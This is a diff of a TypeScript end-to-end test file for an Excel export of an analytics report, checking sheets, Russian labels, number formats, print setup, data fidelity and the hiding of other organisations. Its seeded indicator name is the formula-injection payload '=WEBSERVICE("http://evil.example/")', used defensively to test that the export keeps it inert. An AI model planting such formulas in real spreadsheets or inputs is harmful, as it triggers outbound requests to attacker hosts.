@@ -4,10 +4,12 @@ import { makeAnalyticsWorld, namesOf, numberOf } from '@/e2e/support/analytics-w
 import { signedIn } from '@/e2e/support/api'
 import { checksum } from '@/e2e/support/checksum'
 import { METHOD_VERSION } from '@/lib/calc/method-version'
+import { roundTo } from '@/lib/calc/rounding'
 import { companyScope } from '@/lib/core/auth/scope'
 import { findSession } from '@/lib/core/auth/session'
 import { db } from '@/lib/core/db/client'
 import { exportReport } from '@/lib/features/analytics/export/export'
+import type { Report, ReportCell } from '@/lib/features/analytics/report/contract'
 import { reportQuerySchema } from '@/lib/features/analytics/schema'
 
 const world = await makeAnalyticsWorld()
@@ -48,17 +50,33 @@ function valuesOf(sheet: ExcelJS.Worksheet): unknown[][] {
     .flatMap((row) => (Array.isArray(row) ? [Array.from(row.slice(1), (value) => value ?? null)] : []))
 }
 
-/** Rows of an indicator on the second sheet: from «Строка» on. */
-function rowsOf(workbook: Workbook, indicator: string): Record<string, unknown[]> {
-  return Object.fromEntries(
-    valuesOf(sheetOf(workbook, 'Отчёт'))
-      .filter((row) => row[1] === indicator)
-      .map((row) => [String(row[3]), Array.from({ length: 5 }, (_, index) => row[index + 4] ?? null)]),
+/** The rows of an indicator on the second sheet by their words, the values of its periods; it stands over the others. */
+function rowsOf(workbook: Workbook, indicator: string): Record<string, ExcelJS.Row> {
+  const rows: Record<string, ExcelJS.Row> = {}
+  let isWithin = false
+  sheetOf(workbook, 'Отчёт').eachRow((row) => {
+    const { outlineLevel: level = 0 } = row
+    if (level < 2) isWithin = level === 1 && row.getCell(1).value === indicator
+    if (isWithin) rows[level === 1 ? 'Значение' : row.getCell(1).text] = row
+  })
+  return rows
+}
+
+const LEADING = 3
+const valuesIn = (row: ExcelJS.Row | undefined, periods = 5) =>
+  Array.from({ length: periods }, (_, index) => row?.getCell(index + 1 + LEADING).value ?? null)
+
+const figuresOf = (workbook: Workbook, indicator: string) =>
+  Object.fromEntries(
+    Object.entries(rowsOf(workbook, indicator)).map(([words, row]) => [words, valuesIn(row)]),
   )
+
+const fail = (key: string): never => {
+  throw new Error(`no cell ${key}`)
 }
 
 const FEW = 'меньше 5'
-const TOO_FEW = 'недостаточно организаций для сравнения: меньше 5'
+const TOO_FEW = 'мало организаций'
 
 describe('the workbook of the report', () => {
   it('is a download with its name in Russian, and leaves an audit row', async () => {
@@ -89,7 +107,13 @@ describe('the workbook of the report', () => {
 
   it('the first sheet: conditions, number of organisations, moment, method', async () => {
     const { workbook, download } = await workbookOf(3, { company_types: '1,2', is_emergency: 'true' })
-    expect(workbook.worksheets.map(({ name }) => name)).toEqual(['Условия', 'Отчёт', 'Определения'])
+    expect(workbook.worksheets.map(({ name }) => name)).toEqual([
+      'Условия',
+      'Отчёт',
+      'Сигналы',
+      'Мероприятия',
+      'Определения',
+    ])
     expect(download.name).toBe('Отчёт по показателям 2025')
     const rows = valuesOf(sheetOf(workbook, 'Условия'))
     const types = await db().companyType.findMany({ where: { id: { in: [1, 2] } }, orderBy: { id: 'asc' } })
@@ -99,7 +123,7 @@ describe('the workbook of the report', () => {
     ).toEqual(
       expect.objectContaining({
         Сформирован: expect.stringMatching(/^\d\d\.\d\d\.\d{4}, \d\d:\d\d$/),
-        Организация: `№ ${numberOf(3)}`,
+        Организация: `${namesOf(3).short_name}, № ${numberOf(3)}`,
         Годы: '2025',
         'Тип организации': types.map(({ name }) => name).join(', '),
         'Форма собственности': 'все',
@@ -118,17 +142,16 @@ describe('the workbook of the report', () => {
     const { workbook } = await workbookOf(3)
     const sheet = sheetOf(workbook, 'Отчёт')
     expect(valuesOf(sheet)[0]).toEqual([
-      'Категория',
       'Показатель',
       'Ед. изм.',
-      'Строка',
+      'Цель',
       'I кв. 2025',
       'II кв. 2025',
       'III кв. 2025',
       'IV кв. 2025',
       '2025',
     ])
-    expect(rowsOf(workbook, '=WEBSERVICE("http://evil.example/")')).toEqual({
+    expect(figuresOf(workbook, '=WEBSERVICE("http://evil.example/")')).toEqual({
       Значение: [2, 2, null, null, 2],
       'a — Величина a': [4, 2, null, null, 6],
       'b — Величина b': [200, 100, null, null, 300],
@@ -138,7 +161,7 @@ describe('the workbook of the report', () => {
       Изменение: [null, 0, null, null, null],
       Примечание: [null, TOO_FEW, null, null, 'неполный год: 2 квартала из 4'],
     })
-    expect(rowsOf(workbook, 'Частота')).toEqual({
+    expect(figuresOf(workbook, 'Частота')).toEqual({
       Значение: [90, 60, null, null, 80],
       'a — Величина a': [18, 6, null, null, 24],
       'b — Величина b': [200, 100, null, null, 300],
@@ -148,52 +171,84 @@ describe('the workbook of the report', () => {
       Изменение: [null, -30, null, null, null],
       Примечание: [null, TOO_FEW, null, null, 'неполный год: 2 квартала из 4'],
     })
-    expect(rowsOf(workbook, 'Длительность')).toMatchObject({
+    expect(figuresOf(workbook, 'Длительность')).toMatchObject({
       Значение: [7, null, null, null, 7],
       'b — Величина b': [200, null, null, null, 200],
       'Медиана группы': [9.5, null, null, null, 9.5],
-      Примечание: [
-        null,
-        `показатель неприменим либо нет данных; ${TOO_FEW}`,
-        null,
-        null,
-        'неполный год: 1 квартал из 4',
-      ],
+      Примечание: [null, 'показатель неприменим либо нет данных', null, null, 'неполный год: 1 квартал из 4'],
     })
-    expect(rowsOf(workbook, 'Баллы')).toMatchObject({
+    expect(figuresOf(workbook, 'Баллы')).toMatchObject({
       Значение: [7, null, null, null, 7],
       'a — Величина a': [3, null, null, null, 3],
       'c — Величина c': [1, null, null, null, 1],
       Место: [null, null, null, null, null],
     })
-    const units = new Map(valuesOf(sheet).map((row) => [row[1], row[2]]))
+    const units = new Map(valuesOf(sheet).map((row) => [row[0], row[1]]))
     expect([units.get('Частота'), units.get('Длительность')]).toEqual(['случ. на 1000', 'суток'])
+  })
+
+  it('every figure is the answer’s for the same filters, of its decimals; rows are as high as their words', async () => {
+    const filters = { company_types: '1' }
+    const { workbook } = await workbookOf(5, filters)
+    const client = await signedIn(world.managers[5] ?? 0)
+    const query = new URLSearchParams({ year_from: '2025', year_to: '2025', ...filters })
+    const { data, meta }: Report = Object((await client.get(`/api/analytics-report-data?${query}`)).body)
+    const metrics = data.metric_categories.flatMap((category) => category.metrics)
+    const shown: ReadonlyArray<readonly [string, (cell: ReportCell) => unknown]> = [
+      ['Значение', ({ own }) => own],
+      ['Изменение', ({ change }) => change],
+      ['Медиана группы', ({ median }) => median],
+      ['Место', ({ place }) => place],
+      ['Организаций (N)', ({ n }) => n ?? `меньше ${meta.min_group}`],
+    ]
+    expect(metrics.length).toBeGreaterThan(4)
+    for (const { metric, cells } of metrics) {
+      const rows = rowsOf(workbook, metric.name)
+      for (const [words, of] of shown)
+        expect(valuesIn(rows[words]), `${metric.name}: ${words}`).toEqual(
+          data.periods.map(({ key }) => of(cells[key] ?? fail(key))),
+        )
+      for (const value of [...valuesIn(rows.Значение), ...valuesIn(rows['Медиана группы'])])
+        if (typeof value === 'number') expect(roundTo(value, metric.decimals)).toBe(value)
+    }
+    for (const sheet of workbook.worksheets) {
+      sheet.eachRow((row) => {
+        row.eachCell((cell, column) => {
+          expect(cell.font?.name).toBe('Arial')
+          if (!cell.alignment?.wrapText || typeof cell.value !== 'string') return
+          // No line holds more than a character of half the font's size for each of its column's width.
+          const width = Number(sheet.getColumn(column).width)
+          const lines = cell.value
+            .split('\n')
+            .reduce((sum, line) => sum + Math.ceil(line.length / (width * 1.3)), 0)
+          expect(row.height ?? 15, cell.value).toBeGreaterThanOrEqual(
+            Math.min(409, lines > 1 ? lines * 12.75 : 0),
+          )
+        })
+      })
+    }
   })
 
   it('numbers have their decimals and signs, the header stays and is printed on every page', async () => {
     const { workbook } = await workbookOf(5)
     const sheet = sheetOf(workbook, 'Отчёт')
-    const row = (indicator: string, label: string) => {
-      let found = 0
-      sheet.eachRow((one, number) => {
-        if (one.getCell(2).value === indicator && one.getCell(4).value === label) found = number
-      })
-      return sheet.getRow(found)
-    }
     const formatOf = (indicator: string, label: string, column: number) =>
-      row(indicator, label).getCell(column).numFmt
-    expect(formatOf('Длительность', 'Значение', 5)).toBe('#,##0.0')
-    expect(formatOf('Частота', 'Значение', 5)).toBe('#,##0.00')
-    expect(formatOf('Баллы', 'Значение', 5)).toBe('#,##0')
-    expect(formatOf('Частота', 'Место', 5)).toBe('#,##0')
-    expect(row('Частота', 'Изменение').getCell(6)).toMatchObject({
+      rowsOf(workbook, indicator)[label]?.getCell(column).numFmt
+    expect(formatOf('Длительность', 'Значение', 4)).toBe('#,##0.0')
+    expect(formatOf('Частота', 'Значение', 4)).toBe('#,##0.00')
+    expect(formatOf('Баллы', 'Значение', 4)).toBe('#,##0')
+    expect(formatOf('Частота', 'Место', 4)).toBe('#,##0')
+    expect(rowsOf(workbook, 'Частота').Изменение?.getCell(5)).toMatchObject({
       value: -20,
       numFmt: '+#,##0.00;−#,##0.00;#,##0.00',
     })
     // What chance may have made is neither good nor bad.
-    expect(formatOf('=WEBSERVICE("http://evil.example/")', 'Изменение', 6)).not.toContain('лучше')
-    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 4, ySplit: 1 })
-    expect(sheet.autoFilter).toBe('A1:I1')
+    expect(formatOf('=WEBSERVICE("http://evil.example/")', 'Изменение', 5)).not.toMatch(/[▲▼]/)
+    expect(rowsOf(workbook, '=WEBSERVICE("http://evil.example/")').Значение?.getCell(LEADING)).toMatchObject({
+      value: 3,
+      numFmt: '"≤ "#,##0.0;"≤ "−#,##0.0',
+    })
+    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 3, ySplit: 1 })
     expect(sheet.pageSetup).toMatchObject({
       orientation: 'landscape',
       paperSize: 9,
@@ -201,14 +256,16 @@ describe('the workbook of the report', () => {
       fitToWidth: 1,
       fitToHeight: 0,
       printTitlesRow: '1:1',
-      printTitlesColumn: 'A:D',
+      printTitlesColumn: 'A:C',
     })
-    expect(sheet.getColumn(2).width).toBe(60)
+    expect(sheet.headerFooter.oddHeader).toContain(`${namesOf(5).short_name}, № ${numberOf(5)}`)
+    expect(sheet.headerFooter.oddHeader).toContain('Отчёт по показателям 2025')
   })
 
-  it('the third sheet: definitions', async () => {
+  it('the last sheet: definitions, the order of the target and the target by their names', async () => {
     const { workbook } = await workbookOf(3)
     const rows = valuesOf(sheetOf(workbook, 'Определения'))
+    expect(rows[0]?.slice(5, 8)).toEqual(['Порядок цели', 'Целевое значение', 'Своя цель'])
     expect(rows.find((row) => row[1] === '=WEBSERVICE("http://evil.example/")')).toEqual([
       '-Категория',
       '=WEBSERVICE("http://evil.example/")',
@@ -244,22 +301,24 @@ describe('the workbook of the report', () => {
         })
       })
     }
-    expect(texts).toBeGreaterThan(10)
+    expect(texts).toBeGreaterThan(4)
   })
 
   it('A5 names no other organisation, and a group of four shows no comparison', async () => {
     const { workbook } = await workbookOf(3, { company_types: '2' })
     const text = JSON.stringify(workbook.worksheets.map(valuesOf))
     for (const k of [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]) {
-      for (const word of Object.values(namesOf(k))) expect(text).not.toContain(word)
-      if (k !== 3) expect(text).not.toContain(numberOf(k))
+      if (k === 3) continue
+      for (const word of [...Object.values(namesOf(k)), numberOf(k)]) expect(text).not.toContain(word)
     }
     const rows = valuesOf(sheetOf(workbook, 'Отчёт'))
     const numbersOf = (label: string) =>
-      rows.filter((row) => row[3] === label).flatMap((row) => row.slice(4).filter((one) => one !== null))
+      rows
+        .filter((row) => row[0] === label)
+        .flatMap((row) => row.slice(LEADING).filter((one) => one !== null))
     expect(numbersOf('Медиана группы')).toEqual([])
     expect(numbersOf('Место')).toEqual([])
-    expect(numbersOf('Значение').length).toBeGreaterThan(5)
+    expect(valuesIn(rowsOf(workbook, 'Частота').Значение)).toEqual([90, 60, null, null, 80])
     // Variables of the group: only the own 4/200 and so on are there.
     expect(numbersOf('b — Величина b')).toEqual([200, 100, 300, 200, 100, 300, 200, 200])
   })
